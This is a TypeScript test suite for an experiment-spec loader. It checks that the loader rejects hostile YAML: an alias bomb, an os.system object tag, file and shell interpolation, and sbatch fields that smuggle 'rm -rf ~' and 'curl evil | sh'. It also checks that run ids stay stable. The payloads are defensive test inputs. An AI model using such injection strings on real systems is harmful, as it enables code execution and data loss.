// Hostile spec files: alias bombs, foreign tags, files that are not specs, plans too large to
// make; and what a run id stands for (the settings that change results, not where data lives).
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { loadSpec, expandRuns, expandSweep } from '../src/spec/index.js';
import { MINI, specError, tmpSpec } from './helpers/spec.js';
import { MAX_ALIAS_VALUES, MAX_SPEC_BYTES } from '../src/spec/tree.js';
import { runCli } from './helpers/cli.js';
import { sbatchScript } from '../src/launch/slurm.js';

const dir = mkdtempSync(join(tmpdir(), 'acnn-hostile-'));
const spec = (name: string, text: string) => tmpSpec(text, name, dir);

/** "Billion laughs": 8 levels of 10 aliases name 10^8 copies of a few bytes. */
function aliasBomb(): string {
  const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
  for (let i = 1; i <= 8; i++) lines.push(`a${i}: &a${i} [${Array(10).fill(`*a${i - 1}`).join(', ')}]`);
  return `name: bomb\n${lines.join('\n')}\n`;
}

describe('hostile spec files', function () {
  this.timeout(20_000);

  it('an alias bomb is refused at once, at the line of an alias', async function () {
    this.timeout(5_000); // it used to run for minutes
    const file = spec('bomb.yaml', aliasBomb());
    const e = await specError(loadSpec(file));
    assert.equal(e.problems.length, 1, e.message);
    const p = e.problems[0];
    assert.match(p.message, new RegExp(`aliases expand to more than ${MAX_ALIAS_VALUES} values`));
    const line = aliasBomb().split('\n')[p.pos!.line! - 1];
    assert.match(line.slice(p.pos!.col! - 1), /^\*a\d/, `${p.pos!.line}:${p.pos!.col} is not an alias: ${line}`);
  });

  it('the alias bomb through the CLI: exit 2, the line, no stack', async () => {
    const res = await runCli(['validate', join(dir, 'bomb.yaml')], { timeoutMs: 20_000 });
    assert.equal(res.code, 2, res.stderr);
    assert.match(res.stderr, /bomb\.yaml:\d+:\d+: a\d+\.\d+: aliases expand/);
    assert.doesNotMatch(res.stderr, /\n\s+at /);
  });

  it('aliases that reuse a block a few times still work', async () => {
    const file = spec('anchors.yaml', `${MINI.replace('test:\n  clean: {dataset: synthetic, split: test}', 'test:\n  clean: &t {dataset: synthetic, split: test}\n  again: *t')}
  occluded: {<<: *t, occlusion: {protocol: random-square}}
matrix: {model.variant: &v [base, pcnn]}
`);
    const runs = expandRuns(await loadSpec(file));
    assert.equal(runs.length, 2);
    assert.deepEqual(runs[1].config.test.again, runs[1].config.test.clean);
    assert.equal(runs[1].config.test.occluded.split, 'test');
  });

  it('tags other than !replace, !append and the core ones are errors naming the tag and line', async () => {
    const file = spec(
      'tags.yaml',
      `${MINI}model:
  variant: !!python/object/apply:os.system ["echo owned"]
  width: !!float 0.5
  backbone: !!str vgg16
  pretrained: !custom imagenet
description: !!binary aGVsbG8=
seeds: !!set {1, 2}
`,
    );
    const e = await specError(loadSpec(file));
    const byTag = (t: string) => e.problems.find((p) => p.message.startsWith(`unknown tag ${t}:`));
    assert.equal(byTag('!!python/object/apply:os.system')?.pos?.line, 9, e.message);
    assert.equal(byTag('!custom')?.pos?.line, 12, e.message);
    assert.equal(byTag('!!binary')?.pos?.line, 13, e.message);
    assert.equal(byTag('!!set')?.pos?.line, 14, e.message);
    assert.equal(e.problems.length, 4, e.message);
  });

  it('a %TAG directive cannot give a tag a meaning either', async () => {
    const e = await specError(loadSpec(spec('directive.yaml', `%TAG !e! tag:example.com,2000:\n---\n${MINI}description: !e!thing hello\n`)));
    assert.match(e.message, /directive\.yaml:10:\d+: description: unknown tag tag:example\.com,2000:thing/);
  });

  it('infinite and NaN numbers are errors, not values', async () => {
    const e = await specError(loadSpec(spec('inf.yaml', MINI.replace('iterations: 10', 'iterations: 10\n  lr: .inf\n  momentum: .nan'))));
    assert.match(e.message, /inf\.yaml:6:\d+: train\.lr: expected a finite number, found \.inf/);
    assert.match(e.message, /inf\.yaml:7:\d+: train\.momentum: expected a finite number, found \.nan/);
  });

  it('extends names spec files only: not other files, devices or pipes', async () => {
    writeFileSync(join(dir, 'notes.txt'), 'model: {variant: pcnn}\n');
    let e = await specError(loadSpec(spec('ext-txt.yaml', `extends: notes.txt\n${MINI}`)));
    assert.match(e.message, /ext-txt\.yaml:1:10: extends: extends target .*notes\.txt is not a spec file: extends names \.yaml or \.yml files only/);
    e = await specError(loadSpec(spec('ext-dev.yaml', `extends: /dev/zero\n${MINI}`)));
    assert.match(e.message, /\/dev\/zero is not a spec file/);
    execFileSync('mkfifo', [join(dir, 'pipe.yaml')]);
    e = await specError(loadSpec(spec('ext-fifo.yaml', `extends: pipe.yaml\n${MINI}`)));
    assert.match(e.message, /ext-fifo\.yaml:1:10: .*pipe\.yaml: is not a regular file/);
  });

  it('a device, an oversized file or binary junk is not read as a spec', async () => {
    let e = await specError(loadSpec('/dev/zero'));
    assert.match(e.message, /cannot read spec file \/dev\/zero: is not a regular file/);
    e = await specError(loadSpec(spec('huge.yaml', `${MINI}description: "${'x'.repeat(MAX_SPEC_BYTES)}"\n`)));
    assert.match(e.message, new RegExp(`huge\\.yaml: \\d+ bytes; a spec file is at most ${MAX_SPEC_BYTES} bytes`));
    writeFileSync(join(dir, 'latin1.yaml'), Buffer.concat([Buffer.from(`${MINI}description: caf`), Buffer.from([0xe9]), Buffer.from('\n')]));
    e = await specError(loadSpec(join(dir, 'latin1.yaml')));
    assert.match(e.message, /latin1\.yaml: not UTF-8 text/);
  });

  it('a key named __proto__ is an unknown key, not a prototype that lends its values', async () => {
    const e = await specError(loadSpec(spec('proto.yaml', `${MINI}model:\n  __proto__: {variant: gacnn}\n`)));
    assert.match(e.message, /proto\.yaml:9:3: model\.__proto__: unknown key "__proto__"/);
  });

  it('interpolation reads environment variables and spec keys, nothing else', async () => {
    for (const expr of ['file:/etc/passwd', 'sh:id', 'env:HOME}${file:/etc/hosts']) {
      const e = await specError(loadSpec(spec('interp.yaml', `${MINI}description: "\${${expr}}"\n`), { env: { HOME: '/home/x' } }));
      assert.match(e.message, /bad reference|bad environment variable name/, `${expr}: ${e.message}`);
    }
    const ok = await loadSpec(spec('interp-ok.yaml', `${MINI}description: "\${env:HOME} \${train.iterations}"\n`), { env: { HOME: '/home/x' } });
    assert.equal(ok.spec.description, '/home/x 10');
  });

  it('sbatch options cannot smuggle shell lines into the array script', async () => {
    const e = await specError(loadSpec(spec('slurm.yaml', `${MINI}sweep:\n  slurm:\n    partition: "debug\\nrm -rf ~"\n    extraArgs: ["--constraint=v100", "--x\\ncurl evil | sh"]\n`)));
    assert.match(e.message, /slurm\.yaml:10:\d+: sweep\.slurm\.partition: expected a string matching/);
    assert.match(e.message, /slurm\.yaml:11:\d+: sweep\.slurm\.extraArgs\.1: expected a string matching/);
    // The script writer refuses them too (flags such as --partition do not pass through the schema).
    const script = { jobName: 'j', array: '0', logDir: '/tmp', cwd: '/tmp', tasks: [{ index: 0, dir: '/tmp/r' }], program: ['acnn'], flags: {} };
    assert.throws(() => sbatchScript({ ...script, settings: { partition: 'debug\nrm -rf ~' } }), /sweep\.slurm\.partition: .* holds a line break/);
    assert.match(sbatchScript({ ...script, settings: { partition: 'debug', extraArgs: ['--constraint=v100'] } }), /#SBATCH --constraint=v100\n/);
  });

  it('a plan too large to make is refused before it is made', async function () {
    this.timeout(5_000);
    const values = `[${Array.from({ length: 20 }, (_, i) => i + 1).join(', ')}]`;
    const file = spec('huge-matrix.yaml', `${MINI}matrix: {train.seed: ${values}, train.iterations: ${values}, train.batchSize: ${values}, train.warmup: ${values}}\n`);
    const e = await specError(loadSpec(file).then(expandRuns));
    assert.match(e.message, /expands into 160000 runs \(20 x 20 x 20 x 20\); at most 10000/);
    const sweep = spec('huge-sweep.yaml', `${MINI}sweep:\n  random: {trials: 1000000000, seed: 0, params: {train.lr: {distribution: uniform, low: 0.001, high: 0.1}}}\n`);
    const s = await specError(loadSpec(sweep).then((l) => expandSweep(l)));
    assert.match(s.message, /huge-sweep\.yaml:9:\d+: sweep\.random\.trials: the spec expands into 1000000000 runs/);
  });
});

describe('run ids: what changes results, and nothing else', function () {
  this.timeout(30_000);
  const ids = async (file: string, opts: Parameters<typeof loadSpec>[1] = {}) => expandRuns(await loadSpec(file, opts)).map((r) => r.id);
  const table2 = 'configs/table2.yaml';

  it('moving the datasets (another root) keeps every id', async () => {
    const a = await ids(table2, { env: { RAFDB_ROOT: '/a', AFFECTNET_ROOT: '/a/aff' } });
    const b = await ids(table2, { env: { RAFDB_ROOT: '/b', AFFECTNET_ROOT: '/elsewhere/AffectNet' } });
    assert.equal(a.length, 12);
    assert.deepEqual(a, b);
  });

  it('logging, evaluation and checkpoint intervals and the execution plan keep the ids; the learning rate does not', async () => {
    const base = await ids(table2);
    assert.deepEqual(await ids(table2, { set: ['train.logEvery=7'] }), base);
    assert.deepEqual(await ids(table2, { set: ['train.evalEvery=100', 'train.checkpointEvery=3'] }), base);
    assert.deepEqual(await ids(table2, { set: ['model.execution.crop=gather'] }), base);
    const lr = await ids(table2, { set: ['train.lr=0.0123'] });
    assert.equal(lr.filter((id, i) => id === base[i]).length, 0);
  });

  it('the same through the CLI: acnn plan --json with RAFDB_ROOT=/a and /b', async () => {
    const plan = async (root: string) => {
      const res = await runCli(['plan', table2, '--json'], { env: { RAFDB_ROOT: root } });
      assert.equal(res.code, 0, res.stderr);
      return (JSON.parse(res.stdout) as { id: string }[]).map((r) => r.id);
    };
    assert.deepEqual(await plan('/a'), await plan('/b'));
  });

  it('two runs that differ only in a left-out key are one run: an error that says so', async () => {
    const file = spec('same-id.yaml', `${MINI}matrix: {train.logEvery: [1, 5]}\n`);
    const e = await specError(loadSpec(file).then(expandRuns));
    assert.match(e.message, /run 2 has the same id as run 1 \([0-9a-f]{10}\): they differ only in settings that do not change results \(datasets\.\*\.root, train\.logEvery/);
  });
});
